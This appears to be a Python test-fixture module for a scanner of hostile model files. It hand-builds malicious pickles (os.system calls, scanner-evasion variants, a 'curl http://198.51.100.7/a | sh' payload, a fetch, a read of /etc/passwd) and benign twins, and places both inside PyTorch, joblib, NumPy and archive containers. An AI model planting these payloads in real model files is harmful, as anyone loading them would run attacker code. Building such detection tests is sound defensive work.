"""Pickles that would do something if they were read, and twins that would not. Written by hand: nothing here is ever loaded."""

# ruff: noqa: E501  # a file stands on a line, whole
from __future__ import annotations

import base64
import datetime
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict, defaultdict
from typing import NamedTuple

TORCH_MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."


class Case(NamedTuple):
    """Files of a repository: `alarm` says whether one of them is hostile; `technique` how."""

    technique: str
    alarm: bool
    files: dict[str, bytes]


def text(value: str) -> bytes:
    """Return the instruction that puts a text on the stack."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value: str) -> bytes:
    """Return the same as protocol 4 does it."""
    return b"\x8c" + bytes([len(value)]) + value.encode()


def calling(module: str, name: str, *arguments: str) -> bytes:
    """Return instructions that call something with texts."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(text, arguments)) + b"tR"


def evil(command: str = "id") -> bytes:
    """Return a pickle that would run a command."""
    return b"\x80\x02" + calling("os", "system", command) + b"."


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """Return a ZIP archive."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return stream.getvalue()


def tarred(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    """Return a tar archive with files and symbolic links."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
        for name, target in (links or {}).items():
            member = tarfile.TarInfo(name)
            member.type, member.linkname = tarfile.SYMTYPE, target
            archive.addfile(member)
    return stream.getvalue()


def torch_legacy(content: bytes) -> bytes:
    """Return a checkpoint as PyTorch wrote it before version 1.6."""
    head = TORCH_MAGIC + b"\x80\x02M\xe9\x03." + pickle.dumps({"little_endian": True}, 2)
    return head + content + pickle.dumps([], 2) + b"\0" * 64


def npy(descr: str, body: bytes) -> bytes:
    """Return an array as NumPy saves it."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".ljust(117).encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def joblib_array(then: bytes) -> bytes:
    """Return a dump of joblib's: an array whose values stand between the instructions, then `then`."""
    wrapper = (
        b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("shape") + b"K\x04\x85" + text("order") + text("C") + text("dtype")
        + b"cnumpy\ndtype\n(" + text("f8") + b"\x89\x88tR" + text("allow_mmap") + b"\x88" + text("numpy_array_alignment_bytes") + b"K\x10ub"
    )  # fmt: skip
    return b"\x80\x04](" + wrapper + b"\x03\xff\xff\xff" + b"c.os" * 8 + then + b"e."


def code_object(*names: str) -> bytes:
    """Return instructions that make a function of its parts, which mentions `names`, as cloudpickle does it."""
    parts = (
        b"K\x01K\x00K\x00K\x01K\x02KCC\x02|\x00)"
        + b"("
        + b"".join(map(text, names))
        + b"t"
        + text("x")
        + b"\x85"
        + text("<lambda>")
    )
    code = b"ctypes\nCodeType\n(" + parts + text("f") + b"K\x01C\x00))tR"
    return b"ccloudpickle.cloudpickle\n_make_function\n(" + code + b"}NNNtR"


def bad_pickles() -> dict[str, bytes]:
    """Return one pickle of each technique."""
    os_system = short("os") + b"\x94" + short("system") + b"\x94"
    return {
        "global and reduce": evil(),
        "global by stack": b"\x80\x04" + short("builtins") + short("exec") + b"\x93" + short("pass") + b"\x85R.",
        "global by memo": b"\x80\x04" + os_system + b"00" + short("x") + b"\x94h\x00h\x01\x93" + short("id") + b"\x85R.",
        "global by sparse memo": b"\x80\x04" + short("system") + b"r\x07\x00\x00\x00" + short("os") + b"q\x630j\x07\x00\x00\x000h\x63"
        b"j\x07\x00\x00\x00\x93" + short("id") + b"\x85R.",
        "instance": b"(S'id'\nios\nsystem\n.",
        "object": b"\x80\x02(cos\nsystem\n" + text("id") + b"o.",
        "new object": b"\x80\x04csubprocess\nPopen\n" + text("id") + b"\x85}\x92.",
        "attribute of an import": b"\x80\x02cbuiltins\ngetattr\n(" + calling("builtins", "__import__", "os") + text("system") + b"tR"
        + text("id") + b"\x85R.",
        "name with dots": b"\x80\x04" + short("torch") + short("serialization.os.system") + b"\x93" + short("id") + b"\x85R.",
        "system's alias": b"\x80\x02" + calling("nt", "system", "id") + b".",
        "rare module of Python's": b"\x80\x02" + calling("zipapp", "create_archive", "a", "b") + b".",
        "module's module": b"\x80\x02cbuiltins\ngetattr\n(cshutil\nos\n" + text("system") + b"tR" + text("id") + b"\x85R.",
        "stranger with a command": b"\x80\x02" + calling("acme.jobs", "submit", "curl http://198.51.100.7/a | sh") + b".",
        "stranger with code": b"\x80\x02" + calling("acme.expr", "Formula", "__import__('os').getcwd()") + b".",
        "broken after the call": evil()[:-1] + b"\xff\xff junk",
        "cut short after the call": evil()[:-1],
        "pickle in a pickle": b"\x80\x02c_pickle\nloads\nC" + bytes([len(evil())]) + evil() + b"\x85R.",
        "pickle in torch's storage": b"\x80\x03ctorch.storage\n_load_from_bytes\nC" + bytes([len(evil())]) + evil() + b"\x85R.",
        "second pickle": pickle.dumps([1, 2]) + evil(),
        "factory": b"\x80\x02ccollections\ndefaultdict\ncos\nsystem\n\x85R.",
        "partial": b"\x80\x02cfunctools\npartial\n(cos\nsystem\n" + text("id") + b"tR)R.",
        "code that is run": b"\x80\x03" + code_object("x") + b"K\x01\x85R.",
        "code that reaches out": b"\x80\x03" + code_object("os", "system") + b".",
        "class changed": b"\x80\x02ccollections\nOrderedDict\n}" + text("update") + b"cbuiltins\nprint\nsb.",
        "getter": b"\x80\x02coperator\nattrgetter\n" + text("system") + b"\x85Rcbuiltins\n__import__\n" + text("os") + b"\x85R\x85R.",
        "only imported": b"\x80\x02}" + text("hook") + b"csubprocess\ncheck_output\ns.",
        "name that is no text": b"\x80\x04K\x01" + short("system") + b"\x93" + short("id") + b"\x85R.",
        "runs a file": b"\x80\x02" + calling("runpy", "run_path", "x.py") + b".",
        "fetches": b"\x80\x02" + calling("urllib.request", "urlopen", "http://198.51.100.7/") + b".",
        "opens a file": b"\x80\x02" + calling("builtins", "open", "/etc/passwd") + b".",
        "imports by name": b"\x80\x02" + calling("importlib", "import_module", "evil") + b".",
        "debugger": b"\x80\x02" + calling("pdb", "run", "1") + b".",
    }  # fmt: skip


def good_pickles() -> dict[str, bytes]:
    """Return pickles of data and of what people keep in models."""
    rows = {"a": [1, 2.5, "os"], "b": (None, True, b"\x80\x04"), "c": {1, 2}}
    made = OrderedDict([("x", datetime.datetime(2024, 1, 2, tzinfo=datetime.UTC)), ("y", defaultdict(list, {1: [2]}))])
    legacy = torch_legacy(pickle.dumps({}, 2))
    return {
        "data": pickle.dumps(rows),
        "data of protocol 0": pickle.dumps(rows, 0),
        "data of protocol 2": pickle.dumps(made, 2),
        "standard objects": pickle.dumps(made, 5),
        "texts that look like names": pickle.dumps(["os", "system", "subprocess", "eval", "os.system('x')", "curl http://a | sh"]),
        "method": pickle.dumps(OrderedDict.fromkeys),
        "partial of a library": b"\x80\x02cfunctools\npartial\ncnumpy\nsum\n\x85R(cnumpy\nsum\n)}NtbN.",
        "estimator": b"\x80\x04" + short("sklearn.linear_model._base") + short("LinearRegression") + b"\x93)\x81}" + short("coef_") + b"G"
        + struct.pack(">d", 1.5) + b"sb.",
        "lambda": b"\x80\x03" + code_object("x", "shape", "mean") + b".",
        "tensor in a pickle": b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(legacy)) + legacy + b"\x85R.",
        "getter": b"\x80\x02coperator\nitemgetter\nK\x00\x85R.",
        "stranger's class": b"\x80\x02cacme.models\nBird\n)\x81}" + text("wings") + b"K\x02sb.",
        "two pickles": pickle.dumps([1]) + pickle.dumps({"k": "v"}),
        "cut short": pickle.dumps(rows)[:-4],
        "recursive": b"\x80\x02]q\x00h\x00a.",
        "large memo": pickle.dumps([f"word{i}" for i in range(5_000)]),
    }  # fmt: skip


def pickles_in_containers() -> list[Case]:
    """Return a hostile pickle, and a plain one, in each container that can hold one."""
    cases = []
    for alarm, inner in ((True, evil()), (False, pickle.dumps({"state": [1, 2, 3]}, 2))):
        model = {"m/data.pkl": inner, "m/version": b"3\n", "m/data/0": b"\0" * 64}
        serialized = json.dumps(
            {"policy": {":type:": "x", ":serialized:": base64.b64encode(b"\x80\x05" + inner[2:]).decode()}}
        ).encode()
        array = joblib_array(inner[2:-1])
        files = {
            "torch archive": {"model.pt": zipped(model)},
            "torch legacy": {"pytorch_model.bin": torch_legacy(inner)},
            "torch tar": {"old.pth": tarred({"sys_info": pickle.dumps({}), "pickle": inner})},
            "deflated archive": {"model.pt": zipped(model, zipfile.ZIP_DEFLATED)},
            "archives in archives": {"all.tar": tarred({"a/b.zip": zipped({"c.gz": _gzip(inner)})})},
            "pickle of an archive": {"w.pkl": b"\x80\x03B" + struct.pack("<I", len(zipped(model))) + zipped(model) + b"."},
            "text in an archive": {"m.zip": zipped({"notes.txt": inner if alarm else b"hello"})},
            "archive called 7z": {"m.7z": zipped(model)} if alarm else {"m.zip": zipped(model)},
            "joblib": {"m.joblib": array},
            "joblib by zlib": {"m.joblib.z": zlib.compress(array)},
            "joblib by lzma": {"m.pkl.xz": lzma.compress(array)},
            "joblib by gzip": {"model.joblib": _gzip(array)},
            "array of objects": {"a.npy": npy("|O", inner)} if alarm else {"a.npy": npy("<f8", b"\0" * 8)},
            "arrays of objects": {"a.npz": zipped({"x.npy": npy("|O", inner)})}
            if alarm
            else {"a.npz": zipped({"x.npy": npy("<f8", b"\0" * 8)})},
            "agent": {"agent.zip": zipped({"data": serialized, "policy.pth": zipped(model)})},
            "no suffix": {"weights": inner},
        }
        cases += [Case(f"container: {name}", alarm, content) for name, content in files.items()]
    return cases


def _gzip(content: bytes) -> bytes:
    packer = zlib.compressobj(6, zlib.DEFLATED, 31)
    return packer.compress(content) + packer.flush()
